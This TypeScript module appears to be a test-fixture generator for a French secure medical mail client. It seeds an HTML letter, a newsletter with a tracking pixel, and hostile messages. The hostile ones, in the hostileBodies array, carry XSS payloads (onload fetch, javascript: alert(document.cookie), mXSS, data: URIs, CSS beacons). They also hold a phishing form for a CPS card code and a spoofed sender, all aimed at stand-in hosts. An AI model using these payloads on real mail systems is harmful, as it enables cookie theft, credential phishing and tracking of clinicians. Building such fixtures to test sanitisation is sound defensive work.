import { scanPicture } from './images.ts'
import type { MailContext } from './letter-mails.ts'
import { compose, correspondents, newMessageId, type SeededMessage } from './mail.ts'
import { attachmentPart, multipart, textPart, type Entity } from './mime.ts'
import { civilName, patients } from './patients.ts'

function alternative(text: string, html: Entity, context: MailContext): Entity {
  return multipart('alternative', [textPart(text), html], context.random)
}

/** A letter written in HTML, with a table and a picture inside the text (`cid:`). */
export async function htmlLetter(context: MailContext): Promise<SeededMessage> {
  const { random, date, to } = context
  const patient = civilName(random.pick(patients))
  const cid = `${random.uuid().toLowerCase()}@medecin.mssante.test`
  const html = `<html><head><style>p{font-family:Calibri,sans-serif}.sig{color:#666}</style></head><body>
<p>Chère consœur,</p>
<p>Voici l'évolution de <b>${patient}</b> :</p>
<table border="1" cellpadding="4" style="border-collapse:collapse"><tr><th>Date</th><th>TA</th><th>Poids</th></tr>
<tr><td>lundi</td><td align="right">132/78</td><td>71,2&nbsp;kg</td></tr><tr><td>jeudi</td><td align="right">126/74</td><td>70,8&nbsp;kg</td></tr></table>
<p><img src="cid:${cid}" alt="Image clé" width="160"></p>
<p class="sig">Bien confraternellement,<br>Dr Marc Tessier</p></body></html>`
  const related = multipart(
    'related',
    [
      textPart(html, 'utf8-qp', 'html'),
      attachmentPart({ fileName: 'image001.png', type: 'image/png', bytes: scanPicture(), contentId: cid }),
    ],
    random.fork('related'),
  )
  const raw = await compose(
    {
      from: correspondents.rheumatologist,
      to: [to],
      subject: `Évolution de ${patient}`,
      date,
      messageId: newMessageId(random, correspondents.rheumatologist),
    },
    alternative(`Chère consœur,\n\nVoici l'évolution de ${patient} : stable.\n`, related, context),
  )
  return { raw, date, flags: ['\\Seen'] }
}

/** A newsletter: layout tables, remote pictures, a tracking pixel. */
export async function newsletter(context: MailContext): Promise<SeededMessage> {
  const { random, date, to } = context
  const issue = random.integer(100, 400)
  const track = random.uuid().toLowerCase()
  const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><style>@media (max-width:600px){.c{width:100%!important}} .b{background:#0b6e83;color:#fff;padding:10px 18px;text-decoration:none}</style></head>
<body bgcolor="#f4f4f4"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table class="c" width="600" bgcolor="#ffffff">
<tr><td><img src="https://images.exemple.test/revue/bandeau-${issue}.png" width="600" height="120" alt="La Revue des praticiens"></td></tr>
<tr><td style="padding:20px;font-family:Georgia,serif"><h1>Numéro ${issue}</h1><p>Au sommaire : l'insuffisance rénale du sujet âgé, la déprescription, l'ordonnance numérique.</p>
<p><a class="b" href="https://revue.exemple.test/lire?n=${issue}&amp;u=${track}">Lire le numéro</a></p></td></tr>
<tr><td style="font-size:11px;color:#888">Vous recevez cette lettre car vous êtes inscrit. <a href="https://revue.exemple.test/desinscription?u=${track}">Se désinscrire</a></td></tr></table>
<img src="https://pixel.exemple.test/o.gif?u=${track}" width="1" height="1" alt=""></td></tr></table></body></html>`
  const raw = await compose(
    {
      from: correspondents.newsletter,
      to: [to],
      subject: `La Revue des praticiens n° ${issue}`,
      date,
      messageId: newMessageId(random, correspondents.newsletter),
      extra: ['List-Unsubscribe: <https://revue.exemple.test/desinscription>', 'Precedence: bulk'],
    },
    alternative(
      `La Revue des praticiens, numéro ${issue}\n`,
      textPart(html, random.pick(['utf8-qp', 'utf8-base64']), 'html'),
      context,
    ),
  )
  return { raw, date, flags: ['\\Seen'] }
}

const hostileBodies = [
  `<html><head><link rel="stylesheet" href="https://vol.exemple.test/style.css"><meta http-equiv="refresh" content="0;url=https://vol.exemple.test/"><base href="https://vol.exemple.test/"></head><body onload="fetch('https://vol.exemple.test/onload')"><script>document.location='https://vol.exemple.test/script'</script><p>Votre boîte est pleine. <a href="javascript:alert(document.cookie)">Cliquez ici</a></p></body></html>`,
  `<html><body><form action="https://vol.exemple.test/connexion" method="post"><p>Votre session a expiré.</p><input name="code" placeholder="Code porteur CPS"><button>Valider</button></form><iframe src="https://vol.exemple.test/cadre"></iframe><object data="https://vol.exemple.test/o.swf"></object></body></html>`,
  `<html><body><style>@import url("https://vol.exemple.test/import.css"); body{background:url(https://vol.exemple.test/fond.png)} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style><div class="x"><a href="https://vol.exemple.test/faux">https://www.esante.exemple.test/</a></div><svg onload="alert(1)"><use href="https://vol.exemple.test/u.svg#a"/></svg><img src=x onerror="alert(2)"><video poster="https://vol.exemple.test/p.jpg"></video></body></html>`,
  `<html><body><p style="background-image:\\75 rl(https://vol.exemple.test/echappe.png)">Facture impayée</p><a href=" java\tscript:alert(1)">Voir</a><img srcset="https://vol.exemple.test/1x.png 1x"><math><mtext><table><mglyph><style><img src="https://vol.exemple.test/mutation" onerror=alert(3)></style></mglyph></table></mtext></math><a href="data:text/html,<script>alert(4)</script>">Pièce</a></body></html>`,
] as const

/** Mail from outside that tries to run code, to phish or to call home. */
export async function hostileMail(context: MailContext, index: number): Promise<SeededMessage> {
  const { random, date, to } = context
  const html = hostileBodies[index % hostileBodies.length] ?? hostileBodies[0]
  const raw = await compose(
    {
      from: correspondents.stranger,
      rawFrom: `"Dr Paul BERNARD <paul.bernard@medecin.mssante.test>" <ne-pas-repondre@promo.exemple.test>`,
      to: [to],
      subject:
        ['Votre boîte est pleine', 'Session expirée', 'Alerte sécurité', 'Facture impayée'][index % 4] ??
        'Alerte',
      date,
      messageId: newMessageId(random, correspondents.stranger),
    },
    textPart(html, 'utf8-qp', 'html'),
  )
  return { raw, date, flags: [] }
}
